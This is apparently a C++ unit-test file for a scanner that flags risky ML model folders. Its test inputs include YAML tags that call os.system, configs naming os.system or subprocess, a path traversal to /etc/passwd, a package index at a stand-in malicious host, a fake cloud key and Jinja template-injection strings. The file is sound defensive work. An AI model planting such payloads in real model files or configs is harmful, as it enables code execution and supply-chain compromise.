// SPDX-License-Identifier: Apache-2.0
#include <map>

#include <gtest/gtest.h>

#include "base/result.h"
#include "scan/graphs/wire.h"
#include "scan/told.h"

namespace cupel::scan {
namespace {

using Files = std::map<std::string, std::string>;

// Of the folder as a whole, and of each file by itself.
std::string told_of_folder(const Files& files) {
  Folder folder{.name = "model", .files = {}, .read = {}};
  for (const auto& [path, text] : files) folder.files.push_back({path, text.size()});
  folder.read = [&](const FolderFile& file, const std::function<void(Bytes)>& use) -> Result<void> {
    use(as_bytes(files.at(file.path)));
    return {};
  };
  std::string out = told_of(examine_folder(folder));
  for (const auto& [path, text] : files) {
    const auto more = told(path, text);
    if (!more.empty()) out += cat(out.empty() ? "" : "; ", more);
  }
  return out;
}

TEST(Folders, OfHonestModelsHaveNoFindings) {
  EXPECT_EQ(
      told_of_folder({
          {"config.json",
           R"({"_name_or_path":"x/y","model_type":"bert","architectures":["BertModel"]})"},
          {"pytorch_model.bin.index.json", R"({"weight_map":{"w":"model-1.pkl"}})"},
          {"model-1.pkl", "\x80\2N."},
          {"modules.json", R"([{"idx":0,"type":"sentence_transformers.models.Transformer"}])"},
          {"model_index.json",
           R"({"unet":["diffusers","UNet2DConditionModel"],"safety_checker":[null,null]})"},
          {"adapter_config.json",
           R"({"auto_mapping":{"parent_library":"transformers.models.bert"}})"},
          {"MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"},
          {"conf.yaml", "model:\n  _target_: torch.optim.Adam\n  lr: 0.1\n"},
          {"requirements.txt",
           "torch==2.6\n--extra-index-url https://download.pytorch.org/whl/cpu\n"},
      }),
      "");
}

TEST(Folders, ThatPullInCodeAreTold) {
  const std::string_view map = R"({"auto_map":{"AutoModel":"modeling_x.X"}})";
  EXPECT_EQ(told_of_folder({{"config.json", std::string(map)}, {"modeling_x.py", "x = 1\n"}}),
            "FLD001 medium config.json@12; SET001 medium config.json@12");
  EXPECT_EQ(told("tokenizer_config.json", R"({"auto_map":{"AutoTokenizer":["a/b--t.T",null]}})"),
            "SET001 high tokenizer_config.json@12");
  EXPECT_EQ(told("config.json",
                 R"({"trust_remote_code":true,"_name_or_path":"google-bert/bert-base-uncased"})"),
            "SET001 medium config.json@21");
  EXPECT_EQ(told("modules.json", R"([{"type":"os.system"}])"), "SET001 critical modules.json@9");
  EXPECT_EQ(told("model_index.json", R"({"unet":["subprocess","run"]})"),
            "SET001 critical model_index.json@8");
  EXPECT_EQ(told("adapter_config.json", R"({"auto_mapping":{"parent_library":"evil"}})"),
            "SET001 medium adapter_config.json@34");
  EXPECT_EQ(told("MLmodel", "flavors:\n  python_function:\n    loader_module: os\n"),
            "SET001 critical MLmodel@3");
  EXPECT_EQ(told("c.yaml", "a: !!python/object/apply:os.system ['id']\n"),
            "SET003 critical c.yaml@1");
  EXPECT_EQ(told("c.yaml",
                 "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['id']\n"),
            "SET003 critical c.yaml@3");
  EXPECT_EQ(told("c.yaml", "m:\n  _target_: os.system\n"), "SET001 critical c.yaml@2");
  EXPECT_EQ(told("MANIFEST.json", R"({"model":{"handler":"handler.py"}})"),
            "SET001 medium MANIFEST.json@20");
  EXPECT_EQ(told("schema.json", R"({"__module__":"builtins","__class__":"eval"})"),
            "SET001 critical schema.json@14");
}

TEST(Folders, ThatLeadElsewhereAreTold) {
  EXPECT_EQ(told("m.index.json", R"({"weight_map":{"w":"../../etc/passwd"}})"),
            "SET002 high m.index.json@19");
  EXPECT_EQ(told_of_folder(
                {{"requirements.txt", "torch\n--extra-index-url https://evil.example/simple\n"}}),
            "FLD002 high requirements.txt@2");
  EXPECT_EQ(told_of_folder({{"setup.py", "setup(entry_points={})\n"}}), "FLD003 medium setup.py@1");
  EXPECT_EQ(told_of_folder({{"m.index.json", R"({"weight_map":{"w":"a.bin"}})"}}),
            "FLD005 low m.index.json@14");
}

// A model with one tensor of 16 bytes in another file.
std::string onnx_model(std::string_view location, std::string_view offset) {
  using test::field;
  using test::number;
  const auto entry = [](std::string_view key, std::string_view value) {
    return field(13, field(1, key) + field(2, value));
  };
  const auto tensor = number(1, 4) + number(2, 1) + field(8, "w") + entry("location", location) +
                      entry("offset", offset) + entry("length", "16") + number(14, 1);
  return number(1, 8) + field(7, field(2, "g") + field(5, tensor)) + field(8, number(2, 17));
}

TEST(Folders, ThatLackDataOfAModelAreTold) {
  const std::string data(32, 'x');
  const auto at_end = onnx_model("w.data", "16");
  EXPECT_EQ(told_of_folder({{"a/m.onnx", at_end}, {"a/w.data", data}}), "");
  EXPECT_EQ(told_of_folder({{"m.onnx", onnx_model("./w.data", "0")}, {"w.data", data}}), "");
  EXPECT_EQ(told_of_folder({{"a/m.onnx", at_end}, {"w.data", data}}), "FLD006 medium a/m.onnx@7");
  EXPECT_EQ(told_of_folder({{"m.onnx", onnx_model("w.data", "17")}, {"w.data", data}}),
            "FLD006 high m.onnx@7");
}

TEST(Folders, ThatHoldCredentialsAreTold) {
  const std::string key = cat("AK", "IAQ3EGRDYT7LWB5KZM");
  EXPECT_EQ(told_of_folder({{"config.json", cat(R"({"key":")", key, R"("})")}}),
            "FLD004 high config.json@1");
}

TEST(Tokenizers, HaveTheirTemplatesExamined) {
  EXPECT_EQ(told("tokenizer_config.json", R"({"chat_template":"{{ ''.__class__ }}"})"),
            "JNJ001 critical chat_template@1");
  EXPECT_EQ(told("tokenizer_config.json",
                 R"({"chat_template":[{"name":"tool","template":"{% include 'x' %}"}]})"),
            "JNJ002 high chat_template.0@1");
  EXPECT_EQ(told("tokenizer_config.json", R"({"chat\u005ftemplate":"{{ ''.__class__ }}"})"),
            "JNJ001 critical chat_template@1");
}

}  // namespace
}  // namespace cupel::scan
